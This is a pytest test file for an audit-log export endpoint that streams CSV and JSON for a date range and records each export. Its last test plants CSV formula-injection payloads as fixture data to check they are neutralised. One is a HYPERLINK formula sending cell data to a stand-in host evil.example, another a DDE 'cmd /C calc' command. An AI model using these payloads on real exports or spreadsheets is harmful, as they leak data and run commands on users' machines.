"""The audit export: CSV and JSON of a date range, exactly the events in it, streamed, audited."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta

from sqlalchemy import select

from pacsbridge import audit
from pacsbridge.audit import AuditEvent

from .conftest import launch_for, new_import


def _in_range(ctx, start: datetime, end: datetime) -> list[AuditEvent]:  # noqa: ANN001
    with ctx.sessions() as session:
        query = select(AuditEvent).where(AuditEvent.at >= start, AuditEvent.at < end)
        return list(session.scalars(query.order_by(AuditEvent.id)))


def _three_days_of_events(client, clock) -> tuple[str, str]:  # noqa: ANN001
    """Events ten, five and zero days ago; the range ``dal``..``al`` holds only the middle."""
    for days in (-10, 5, 5):
        clock.advance(days=days)
        new_import(client, launch_for(client))
    middle = (clock.now() - timedelta(days=5)).date()
    return (middle - timedelta(days=1)).isoformat(), (middle + timedelta(days=1)).isoformat()


def test_the_csv_export_holds_exactly_the_events_of_the_range_and_is_audited(
    console, clock
) -> None:  # noqa: ANN001
    client = console("support", username="m.rossi")
    dal, al = _three_days_of_events(client, clock)
    ctx = client.app.state.context

    answer = client.get("/support/audit/export", params={"dal": dal, "al": al, "formato": "csv"})

    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert "content-length" not in answer.headers  # streamed, not sized in memory first
    start = datetime.fromisoformat(dal).replace(tzinfo=UTC)
    expected = _in_range(ctx, start, start + timedelta(days=3))
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert [int(r["id"]) for r in rows] == [e.id for e in expected]
    assert {r["kind"] for r in rows} == {"launch.created", "import.created"}
    assert [r["import_id"] for r in rows if r["kind"] == "import.created"] == [
        str(e.import_id) for e in expected if e.kind == "import.created"
    ]
    [exported] = [
        e
        for e in _in_range(ctx, clock.now() - timedelta(hours=1), clock.now() + timedelta(hours=1))
        if e.kind == "audit.exported"
    ]
    assert exported.actor == "m.rossi"
    assert exported.details == {
        "format": "csv",
        "from": dal,
        "to": al,
        "uri": f"{ctx.settings.public_url}/support/audit/export?dal={dal}&al={al}&formato=csv",
        "address": "testclient",  # what Starlette's test client reports as its host
    }


def test_the_json_export_holds_the_same_events_as_the_database(console, clock) -> None:  # noqa: ANN001
    client = console("admin", username="a.verdi")
    dal, al = _three_days_of_events(client, clock)
    ctx = client.app.state.context

    answer = client.get("/support/audit/export", params={"dal": dal, "al": al, "formato": "json"})

    assert answer.status_code == 200, answer.text
    start = datetime.fromisoformat(dal).replace(tzinfo=UTC)
    expected = _in_range(ctx, start, start + timedelta(days=3))
    assert json.loads(answer.text) == [
        {**audit.as_dict(e), "import_id": e.import_id, "retrieval_id": e.retrieval_id}
        for e in expected
    ]


def test_an_export_without_a_range_is_refused_and_nothing_is_audited(console) -> None:  # noqa: ANN001
    client = console("support")
    answer = client.get("/support/audit/export", params={"dal": "2026-12-03", "al": "2026-12-01"})
    assert answer.status_code == 422
    with client.app.state.context.sessions() as session:
        kinds = list(session.scalars(select(AuditEvent.kind)))
    assert "audit.exported" not in kinds


def test_events_between_reads_in_batches_yet_returns_every_event_once_in_order(console) -> None:  # noqa: ANN001
    client = console("support")
    for _ in range(3):
        new_import(client, launch_for(client))
    ctx = client.app.state.context
    far = datetime(2000, 1, 1, tzinfo=UTC), datetime(2100, 1, 1, tzinfo=UTC)
    with ctx.sessions() as session:
        batched = [e.id for e in audit.events_between(session, *far, batch=2)]
    assert batched == [e.id for e in _in_range(ctx, *far)] and len(batched) >= 7


def test_csv_cells_that_would_start_a_formula_are_quoted_and_neutralised_even_after_a_semicolon(
    console, clock
) -> None:  # noqa: ANN001
    client = console("support")
    ctx = client.app.state.context
    hostile = {
        "actor": '=HYPERLINK("http://evil.example/?x="&A1)',
        "message": "+1;=cmd|' /C calc'!A0;@SUM(1)",
        "code": "-2+3",
    }
    with ctx.sessions.begin() as session:
        audit.record(session, clock.now(), "staff.sign_in_failed", note="x;-1", **hostile)
    day = clock.now().date().isoformat()

    answer = client.get("/support/audit/export", params={"dal": day, "al": day, "formato": "csv"})

    assert answer.status_code == 200, answer.text
    raw = answer.text
    # a cell start, whether the spreadsheet splits on "," (quoted) or on ";" (Italian Excel)
    assert re.search(r'(^|[,;])"?[=+\-@]', raw, re.MULTILINE) is None, raw
    assert all(line.startswith('"') and line.endswith('"') for line in raw.splitlines())
    [row] = [r for r in csv.DictReader(io.StringIO(raw)) if r["kind"] == "staff.sign_in_failed"]
    assert row["actor"] == "'" + hostile["actor"]
    assert row["message"] == "'+1;'=cmd|' /C calc'!A0;'@SUM(1)"
    assert row["code"] == "'-2+3"
    assert json.loads(row["details"]) == {"note": "x;'-1"}  # the JSON, its ";-" neutralised
